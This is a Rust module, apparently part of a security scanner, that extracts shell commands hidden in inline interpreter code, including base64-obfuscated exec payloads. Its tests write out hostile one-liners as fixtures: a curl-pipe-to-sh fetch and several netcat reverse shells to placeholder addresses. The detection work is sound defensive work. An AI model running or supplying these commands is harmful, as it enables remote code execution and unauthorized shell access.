//! Interpreter code on the command line (`python -c`, `perl -e`, `ruby -e`, `php -r`,
//! `node -e`, `lua -e`, awk programs, `expect -c`): where the code is, and the command lines
//! its command-running calls carry (`os.system('curl .. | sh')`, `exec "/bin/sh"`,
//! `` `id` ``, `system("/bin/sh")`, `"cmd" | getline`).
//!
//! A call's string literals are the command: one literal is a command line, several are an
//! argv (`subprocess.call(["nc", "-e", "/bin/sh", ..])`), except for calls that only take a
//! command line (`os.system`), whose literals are joined. A literal decoded inline
//! (`base64.b64decode('..')`, `Buffer.from('..','base64')`) is decoded first; code handed to
//! `exec`/`eval` (`exec(base64.b64decode('..'))`) is read again as code, one level deeper.
//!
//! Not here: running or fully parsing any language. This reads the common one-liner shapes; a
//! command built from variables shows only its literal parts.

use super::carry::{Payload, Runs};
use super::{Arg, Carried};
use crate::text::{basename, decode_base64, floor_char_boundary};

/// Bytes of code read per program text.
const MAX_CODE_BYTES: usize = 16 * 1024;
/// Bytes of one call's arguments read.
const MAX_CALL_BYTES: usize = 4096;
/// Code handed to `exec`/`eval` read again, this deep.
const MAX_CODE_DEPTH: u8 = 2;
/// Payloads one program text gives.
const MAX_CODE_PAYLOADS: usize = 8;
/// Call sites whose arguments are read per program text: each reads up to
/// [`MAX_CALL_BYTES`], so this bounds the work on code made of unclosed calls.
const MAX_CALL_SITES: usize = 64;

/// A language whose inline code is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    Python,
    Perl,
    Ruby,
    Php,
    Node,
    Lua,
    Awk,
    Tcl,
    /// jrunscript, jjs, julia: their code is read for the interpreter detector's
    /// socket-and-shell test; no command-running call is listed for them.
    Other,
}

/// The language of a program basename (`python3.11`, `gawk`, `nodejs`); `php-fpm` and other
/// servers are not interpreters of inline code.
pub fn lang_of(program: &str) -> Option<Lang> {
    let bare = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match bare {
        "python" | "pypy" => Lang::Python,
        "perl" => Lang::Perl,
        "ruby" | "jruby" => Lang::Ruby,
        "php" | "php-cli" => Lang::Php,
        "node" | "nodejs" => Lang::Node,
        "lua" | "luajit" => Lang::Lua,
        "awk" | "gawk" | "mawk" | "nawk" => Lang::Awk,
        "expect" | "tclsh" => Lang::Tcl,
        "jrunscript" | "jjs" | "julia" => Lang::Other,
        _ => return None,
    })
}

/// The inline program text of an interpreter invocation (`python -c CODE`, `perl -ne CODE`,
/// `awk -F: 'PROGRAM' file`), or `None` when it runs a file.
pub fn inline_code<'c>(program: &str, args: &'c [Arg<'c>]) -> Option<&'c str> {
    let lang = lang_of(program)?;
    if lang == Lang::Awk {
        // The program is the first operand; -F, -v and -f take a value (-f: a program file).
        let mut i = 0;
        while let Some(a) = args.get(i) {
            match a.as_ref() {
                "-f" | "--file" => return None,
                "-F" | "-v" | "--assign" | "--field-separator" => i += 2,
                "--" => return args.get(i + 1).map(|a| &**a),
                x if x.starts_with("-f") && x.len() > 2 => return None,
                x if x.starts_with('-') && x.len() > 1 => i += 1,
                _ => return Some(a),
            }
        }
        return None;
    }
    let opts: &[&str] = match lang {
        Lang::Python => &["-c"],
        Lang::Php => &["-r"],
        Lang::Node => &["-e", "--eval", "-p", "--print"],
        Lang::Tcl => &["-c"],
        _ => &["-e", "-E"],
    };
    for (i, x) in args.iter().enumerate() {
        if opts.contains(&x.as_ref()) {
            return args.get(i + 1).map(|a| &**a);
        }
        // perl/ruby clusters such as `-ne`, `-pe`, `-lne` end in e.
        if matches!(lang, Lang::Perl | Lang::Ruby)
            && x.len() > 2
            && x.starts_with('-')
            && !x.starts_with("--")
            && x.ends_with('e')
            && x[1..].bytes().all(|b| b.is_ascii_alphabetic())
        {
            return args.get(i + 1).map(|a| &**a);
        }
    }
    None
}

/// What a call does with its arguments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Runs a command line (`os.system`): its literals are joined.
    Line,
    /// Runs the command line in its first literal; the others are a mode (`popen(cmd, "r")`).
    First,
    /// Runs a command line or, given several words, an argv (`subprocess.call`, perl
    /// `system`).
    Command,
    /// Runs code of the same language (`exec`, `eval`): read again as code.
    Code,
}

/// The command-running calls of a language, as they appear before their arguments.
fn calls(lang: Lang) -> &'static [(&'static str, Kind)] {
    use Kind::*;
    match lang {
        Lang::Python => &[
            ("os.system", Line),
            ("os.popen", First),
            ("subprocess.getoutput", Line),
            ("subprocess.getstatusoutput", Line),
            ("commands.getoutput", Line),
            ("subprocess.call", Command),
            ("subprocess.run", Command),
            ("subprocess.Popen", Command),
            ("subprocess.check_output", Command),
            ("subprocess.check_call", Command),
            ("pty.spawn", Command),
            ("os.execl", Command),
            ("os.execle", Command),
            ("os.execlp", Command),
            ("os.execlpe", Command),
            ("os.execv", Command),
            ("os.execve", Command),
            ("os.execvp", Command),
            ("os.execvpe", Command),
            ("os.spawnl", Command),
            ("os.spawnlp", Command),
            ("os.spawnv", Command),
            ("os.spawnvp", Command),
            ("os.posix_spawn", Command),
            ("os.posix_spawnp", Command),
            ("exec", Code),
            ("eval", Code),
        ],
        Lang::Perl => &[
            ("system", Command),
            ("exec", Command),
            ("qx", Line),
            ("readpipe", Line),
            ("eval", Code),
        ],
        Lang::Ruby => &[
            ("system", Command),
            ("exec", Command),
            ("spawn", Command),
            ("IO.popen", Command),
            ("Open3.popen3", Command),
            ("Open3.popen2", Command),
            ("Open3.capture2", Command),
            ("Open3.capture3", Command),
            ("eval", Code),
        ],
        Lang::Php => &[
            ("system", Line),
            ("exec", Line),
            ("passthru", Line),
            ("shell_exec", Line),
            ("popen", First),
            ("proc_open", First),
            ("pcntl_exec", Command),
            ("eval", Code),
        ],
        Lang::Node => &[
            ("execSync", Line),
            ("exec", Line),
            ("execFileSync", Command),
            ("execFile", Command),
            ("spawnSync", Command),
            ("spawn", Command),
            ("eval", Code),
        ],
        Lang::Lua => &[("os.execute", Line), ("io.popen", First)],
        Lang::Awk => &[("system", Line)],
        Lang::Tcl | Lang::Other => &[],
    }
}

/// Functions whose string argument is base64, decoded inline.
const BASE64_DECODERS: &[&str] = &[
    "b64decode(",
    "decodebytes(",
    "decode_base64(",
    "base64_decode(",
    "decode64(",
    "atob(",
    "unpack(\"m\",",
    "unpack('m',",
];

/// The command lines that interpreter code on `argv` carries.
pub(super) fn payloads(program: &str, argv: &[Arg<'_>], out: &mut Vec<Payload>) {
    let Some(lang) = lang_of(program) else { return };
    let args = argv.get(1..).unwrap_or_default();
    let Some(code) = inline_code(program, args) else {
        return;
    };
    let code = &code[..floor_char_boundary(code, MAX_CODE_BYTES)];
    let flag = match lang {
        Lang::Python | Lang::Tcl => "-c",
        Lang::Php => "-r",
        Lang::Awk => "program",
        _ => "-e",
    };
    let name = basename(program);
    scan(lang, code, &format!("in {name} {flag} code"), 0, out);
}

/// The payloads of one piece of code.
fn scan(lang: Lang, code: &str, via: &str, depth: u8, out: &mut Vec<Payload>) {
    let start = out.len();
    let mut sites = 0usize;
    let mut calls_at = CallSites { lang, code, at: 0 };
    while let Some((call, kind, from)) = calls_at.next() {
        if out.len() - start >= MAX_CODE_PAYLOADS || sites >= MAX_CALL_SITES {
            return;
        }
        sites += 1;
        let Some(region) = call_arguments(lang, &code[from..]) else {
            continue;
        };
        // Options objects and keyword dicts (`{stdio: 'inherit'}`, `env={'A': 'b'}`)
        // hold strings that are not the command.
        let literals = literals(&outside_braces(region));
        if literals.is_empty() {
            continue;
        }
        let what = format!("{via}, {call}");
        let runs = match kind {
            Kind::Code => {
                if depth < MAX_CODE_DEPTH {
                    for l in &literals {
                        scan(lang, l, via, depth + 1, out);
                    }
                }
                continue;
            }
            Kind::Line => Runs::Shell(literals.join(" ")),
            Kind::First => Runs::Shell(literals.into_iter().next().unwrap_or_default()),
            Kind::Command if literals.len() == 1 => {
                Runs::Shell(literals.into_iter().next().unwrap_or_default())
            }
            Kind::Command => Runs::Argv(argv_of(literals)),
        };
        out.push(Payload::new(Carried::Code, what, runs));
    }
    match lang {
        Lang::Perl | Lang::Ruby | Lang::Php => backticks(code, via, out, start),
        Lang::Awk => awk_pipes(code, via, out, start),
        Lang::Tcl => tcl_commands(code, via, out, start),
        _ => {}
    }
}

/// The command-running calls in code, in source order: one pass over its names (`os.system`,
/// `require('child_process').exec`: a dotted name is matched whole, or by its last part for
/// the calls listed without a dot), yielding the call, its kind and where its arguments
/// start.
struct CallSites<'c> {
    lang: Lang,
    code: &'c str,
    at: usize,
}

impl CallSites<'_> {
    fn next(&mut self) -> Option<(&'static str, Kind, usize)> {
        let bytes = self.code.as_bytes();
        let ident = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
        while self.at < bytes.len() {
            let i = self.at;
            let b = bytes[i];
            let starts = i == 0 || !ident(bytes[i - 1]);
            if b == b'%' && self.lang == Lang::Ruby && bytes.get(i + 1) == Some(&b'x') {
                self.at = i + 2;
                return Some(("%x", Kind::Line, i + 2));
            }
            if !(starts && (b.is_ascii_alphabetic() || b == b'_')) {
                self.at += 1;
                continue;
            }
            let end = bytes[i..]
                .iter()
                .position(|&b| !(ident(b) || b == b'.'))
                .map_or(bytes.len(), |n| i + n);
            self.at = end;
            let name = &self.code[i..end];
            // A listed name with a dot can only equal the whole name: the tail has none.
            let tail = match name.bytes().rposition(|b| b == b'.') {
                Some(d) => &name[d + 1..],
                None => name,
            };
            if let Some(&(call, kind)) = calls(self.lang)
                .iter()
                .find(|(c, _)| *c == tail || *c == name)
            {
                return Some((call, kind, end));
            }
        }
        None
    }
}

/// The argument text of a call: the balanced `( .. )` after it, or for a call written
/// without parentheses (`exec "/bin/sh"`, `%x(id)`, `qx{id}`), up to the end of the
/// statement. Cut at [`MAX_CALL_BYTES`].
fn call_arguments(lang: Lang, rest: &str) -> Option<&str> {
    let trimmed = rest.trim_start();
    let skipped = rest.len() - trimmed.len();
    let bytes = trimmed.as_bytes();
    let open = *bytes.first()?;
    let close = match open {
        b'(' => b')',
        b'{' if lang != Lang::Php => b'}',
        b'[' if lang == Lang::Ruby => b']',
        b'"' | b'\'' if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Lua) => {
            // A bare call: the statement.
            let end = statement_end(trimmed);
            return Some(&rest[skipped..skipped + end]);
        }
        _ => return None,
    };
    let end = matching(trimmed, open, close)?;
    Some(&rest[skipped + 1..skipped + end])
}

/// Index of the first byte of `s`, outside text quoted by one of `quotes` (backslash
/// escapes inside them) and within [`MAX_CALL_BYTES`], for which `stop` is true; `stop` sees
/// every unquoted byte in order. One scanner for the three ends below.
fn first_unquoted(s: &str, quotes: &[u8], mut stop: impl FnMut(u8) -> bool) -> Option<usize> {
    let limit = floor_char_boundary(s, MAX_CALL_BYTES);
    let bytes = s.as_bytes();
    let mut quote: Option<u8> = None;
    let mut i = 0;
    while i < limit {
        let b = bytes[i];
        match quote {
            Some(q) => {
                if b == b'\\' {
                    i += 1;
                } else if b == q {
                    quote = None;
                }
            }
            None if quotes.contains(&b) => quote = Some(b),
            None if stop(b) => return Some(i),
            None => {}
        }
        i += 1;
    }
    None
}

/// A `stop` for [`first_unquoted`] that finds the `close` ending a pair, `depth` pairs deep.
fn pair_end(open: u8, close: u8, mut depth: usize) -> impl FnMut(u8) -> bool {
    move |b| {
        if b == open {
            depth += 1;
        } else if b == close {
            depth = depth.saturating_sub(1);
            return depth == 0;
        }
        false
    }
}

/// Index of the `close` matching the `open` at 0, skipping quoted text; the cut at
/// [`MAX_CALL_BYTES`] when it is not found before.
fn matching(s: &str, open: u8, close: u8) -> Option<usize> {
    let limit = floor_char_boundary(s, MAX_CALL_BYTES);
    first_unquoted(s, b"\"'`", pair_end(open, close, 0)).or((limit > 1).then_some(limit))
}

/// Index of the `close` that ends text opened just before it (`system(` .. `)`), skipping
/// quoted text and nested pairs; `None` when it is not found within [`MAX_CALL_BYTES`].
pub(super) fn closing(s: &str, open: u8, close: u8) -> Option<usize> {
    first_unquoted(s, b"\"'", pair_end(open, close, 1))
}

/// End of a statement: `;`, a newline or `}` outside quotes.
fn statement_end(s: &str) -> usize {
    first_unquoted(s, b"\"'", |b| matches!(b, b';' | b'\n' | b'}'))
        .unwrap_or_else(|| floor_char_boundary(s, MAX_CALL_BYTES))
}

/// The string literals in `region`, in order, with escapes resolved; a literal given to a
/// base64 decoder (`b64decode('..')`) is decoded when it decodes to text.
pub(super) fn literals(region: &str) -> Vec<String> {
    let bytes = region.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() && out.len() < 32 {
        let q = bytes[i];
        if q != b'"' && q != b'\'' {
            i += 1;
            continue;
        }
        // Python's triple quotes open and close with three.
        let triple = bytes.get(i..i + 3) == Some(&[q, q, q][..]);
        let open_len = if triple { 3 } else { 1 };
        let mut j = i + open_len;
        let mut text = Vec::new();
        let mut closed = false;
        while j < bytes.len() {
            let b = bytes[j];
            if b == b'\\' && j + 1 < bytes.len() {
                text.push(match bytes[j + 1] {
                    b'n' => b'\n',
                    b't' => b'\t',
                    other => other,
                });
                j += 2;
                continue;
            }
            if b == q && (!triple || bytes.get(j..j + 3) == Some(&[q, q, q][..])) {
                closed = true;
                break;
            }
            text.push(b);
            j += 1;
        }
        let decoded = {
            let before = region[..i].trim_end();
            let to_decoder = BASE64_DECODERS.iter().any(|d| before.ends_with(d));
            let after = region.get(j + open_len..).unwrap_or("").trim_start();
            let buffer_from = before.ends_with("Buffer.from(")
                && (after.starts_with(",'base64'")
                    || after.starts_with(", 'base64'")
                    || after.starts_with(",\"base64\"")
                    || after.starts_with(", \"base64\""));
            (to_decoder || buffer_from)
                .then(|| decode_base64(&text))
                .flatten()
                .and_then(|d| String::from_utf8(d).ok())
        };
        out.push(decoded.unwrap_or_else(|| String::from_utf8_lossy(&text).into_owned()));
        i = if closed { j + open_len } else { bytes.len() };
    }
    out
}

/// `region` without the text inside top-level `{ }` (quotes respected).
fn outside_braces(region: &str) -> std::borrow::Cow<'_, str> {
    if !region.contains('{') {
        return std::borrow::Cow::Borrowed(region);
    }
    let mut out = String::with_capacity(region.len());
    let (mut depth, mut quote) = (0usize, None::<char>);
    let mut escaped = false;
    for ch in region.chars() {
        match quote {
            Some(q) => {
                if escaped {
                    escaped = false;
                } else if ch == '\\' {
                    escaped = true;
                } else if ch == q {
                    quote = None;
                }
            }
            None if ch == '"' || ch == '\'' => quote = Some(ch),
            None if ch == '{' => depth += 1,
            None if ch == '}' => {
                depth = depth.saturating_sub(1);
                continue;
            }
            None => {}
        }
        if depth == 0 {
            out.push(ch);
        }
    }
    std::borrow::Cow::Owned(out)
}

/// An argv from a call's literals: `os.execl("/bin/sh", "sh", "-c", ..)` names the program
/// twice (path, then argv[0]); the path is kept.
fn argv_of(mut literals: Vec<String>) -> Vec<String> {
    if literals.len() >= 2 && basename(&literals[0]) == basename(&literals[1]) {
        literals.remove(1);
    }
    literals
}

/// `` `cmd` ``, perl's and ruby's `qx{..}`/`%x(..)` forms are found as calls; backticks here.
fn backticks(code: &str, via: &str, out: &mut Vec<Payload>, start: usize) {
    let mut rest = code;
    while let Some(open) = rest.find('`') {
        if out.len() - start >= MAX_CODE_PAYLOADS {
            return;
        }
        let after = &rest[open + 1..];
        let Some(close) = after.find('`') else { return };
        let command = &after[..close];
        if !command.trim().is_empty() {
            out.push(Payload::new(
                Carried::Code,
                format!("{via}, backticks"),
                Runs::Shell(command.to_string()),
            ));
        }
        rest = &after[close + 1..];
    }
}

/// awk's pipes: `"cmd" | getline` and `print .. | "cmd"` run cmd through sh; `|&` is a
/// coprocess (gawk's `/inet/tcp` sockets use it) and is the interpreter detector's.
fn awk_pipes(code: &str, via: &str, out: &mut Vec<Payload>, start: usize) {
    let bytes = code.as_bytes();
    for (at, _) in code.match_indices('|') {
        if out.len() - start >= MAX_CODE_PAYLOADS {
            return;
        }
        if bytes.get(at + 1) == Some(&b'|') || (at > 0 && bytes[at - 1] == b'|') {
            continue;
        }
        if bytes.get(at + 1) == Some(&b'&') {
            continue;
        }
        let before = code[..at].trim_end();
        let after = code[at + 1..].trim_start();
        let command = if after.starts_with("getline") && before.ends_with('"') {
            before[..before.len() - 1]
                .rfind('"')
                .map(|open| &before[open + 1..before.len() - 1])
        } else if let Some(tail) = after.strip_prefix('"') {
            tail.find('"').map(|close| &tail[..close])
        } else {
            None
        };
        if let Some(command) = command.filter(|c| !c.trim().is_empty()) {
            out.push(Payload::new(
                Carried::Code,
                format!("{via}, a pipe"),
                Runs::Shell(command.to_string()),
            ));
        }
    }
}

/// Tcl's `exec` and expect's `spawn`: the words up to the end of the command.
fn tcl_commands(code: &str, via: &str, out: &mut Vec<Payload>, start: usize) {
    for call in ["exec", "spawn"] {
        let mut from = 0;
        while let Some(at) = code[from..].find(call).map(|i| from + i) {
            from = at + call.len();
            if out.len() - start >= MAX_CODE_PAYLOADS {
                return;
            }
            let starts =
                at == 0 || matches!(code.as_bytes()[at - 1], b' ' | b';' | b'[' | b'\n' | b'{');
            if !starts || code.as_bytes().get(from) != Some(&b' ') {
                continue;
            }
            let rest = &code[from..];
            let end = rest.find([';', '\n', ']']).unwrap_or(rest.len());
            let words: Vec<String> = rest[..end]
                .split_ascii_whitespace()
                .map(|w| {
                    w.trim_matches(|c| c == '{' || c == '}' || c == '"')
                        .to_string()
                })
                .filter(|w| !w.is_empty())
                .collect();
            if !words.is_empty() {
                out.push(Payload::new(
                    Carried::Code,
                    format!("{via}, {call}"),
                    Runs::Argv(words),
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(program: &str, code: &str) -> Vec<(String, Runs)> {
        let argv: Vec<Arg> = vec![
            Arg::Borrowed(program),
            Arg::Borrowed(match lang_of(program) {
                Some(Lang::Python | Lang::Tcl) => "-c",
                Some(Lang::Php) => "-r",
                Some(Lang::Awk) => "--",
                _ => "-e",
            }),
            Arg::Borrowed(code),
        ];
        let mut out = Vec::new();
        payloads(program, &argv, &mut out);
        out.into_iter().map(|p| (p.via, p.runs)).collect()
    }

    fn shell(s: &str) -> Runs {
        Runs::Shell(s.to_string())
    }

    fn argv(w: &[&str]) -> Runs {
        Runs::Argv(w.iter().map(|s| s.to_string()).collect())
    }

    #[test]
    fn python_calls_carry_their_command() {
        assert_eq!(
            found(
                "python3",
                "import os; os.system('curl http://x.y/a.sh | sh')"
            ),
            [(
                "in python3 -c code, os.system".to_string(),
                shell("curl http://x.y/a.sh | sh")
            )]
        );
        assert_eq!(
            found("python3", "import subprocess; subprocess.call([\"nc\", \"-e\", \"/bin/sh\", \"1.2.3.4\", \"4444\"])")[0].1,
            argv(&["nc", "-e", "/bin/sh", "1.2.3.4", "4444"])
        );
        assert_eq!(
            found("python", "import os; os.execl('/bin/sh', 'sh', '-p')")[0].1,
            argv(&["/bin/sh", "-p"])
        );
        // aWQ= is `id`
        assert_eq!(
            found(
                "python3",
                "import os,base64; os.system(base64.b64decode('aWQ=').decode())"
            )[0]
            .1,
            shell("id")
        );
        // exec of decoded code is read again as code: the decoded text runs os.system('id').
        let inner = "import os;os.system('id')";
        let b64 = "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==";
        assert_eq!(
            decode_base64(b64.as_bytes()).as_deref(),
            Some(inner.as_bytes())
        );
        assert_eq!(
            found(
                "python3",
                &format!("import base64;exec(base64.b64decode('{b64}'))")
            )[0]
            .1,
            shell("id")
        );
        assert!(found("python3", "import os; print(os.getcwd())").is_empty());
        assert!(found("python3", "print('os.system(\"x\")')")
            .iter()
            .all(|(_, r)| *r == shell("x")));
    }

    #[test]
    fn other_languages() {
        assert_eq!(
            found(
                "node",
                "require('child_process').exec('nc 10.0.0.1 4444 -e /bin/sh')"
            )[0]
            .1,
            shell("nc 10.0.0.1 4444 -e /bin/sh")
        );
        assert_eq!(
            found(
                "node",
                "require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})"
            )[0]
            .1,
            shell("/bin/sh")
        );
        assert_eq!(found("perl", "exec \"/bin/sh\";")[0].1, shell("/bin/sh"));
        assert_eq!(found("perl", "print `id`")[0].1, shell("id"));
        assert_eq!(found("ruby", "exec '/bin/sh'")[0].1, shell("/bin/sh"));
        assert_eq!(
            found("php", "system('/bin/sh -i');")[0].1,
            shell("/bin/sh -i")
        );
        assert_eq!(found("lua", "os.execute('/bin/sh')")[0].1, shell("/bin/sh"));
        assert_eq!(
            found("awk", "BEGIN {system(\"/bin/sh\")}")[0].1,
            shell("/bin/sh")
        );
        assert_eq!(
            found("awk", "BEGIN {\"id\" | getline x; print x}")[0].1,
            shell("id")
        );
        assert_eq!(
            found("expect", "spawn /bin/sh;interact")[0].1,
            argv(&["/bin/sh"])
        );
        assert!(found("awk", "{print $1 | \"sort\"}")
            .iter()
            .all(|(_, r)| *r == shell("sort")));
        assert!(found("perl", "s/execute/run/g").is_empty());
        assert!(found("ruby", "puts 'hello'").is_empty());
    }

    #[test]
    fn awk_options_are_not_its_program() {
        let args: Vec<Arg> = ["-F", ":", "{print $1}", "/etc/passwd"]
            .into_iter()
            .map(Arg::Borrowed)
            .collect();
        assert_eq!(inline_code("awk", &args), Some("{print $1}"));
        let args: Vec<Arg> = ["-f", "prog.awk", "x"]
            .into_iter()
            .map(Arg::Borrowed)
            .collect();
        assert_eq!(inline_code("gawk", &args), None);
    }
}
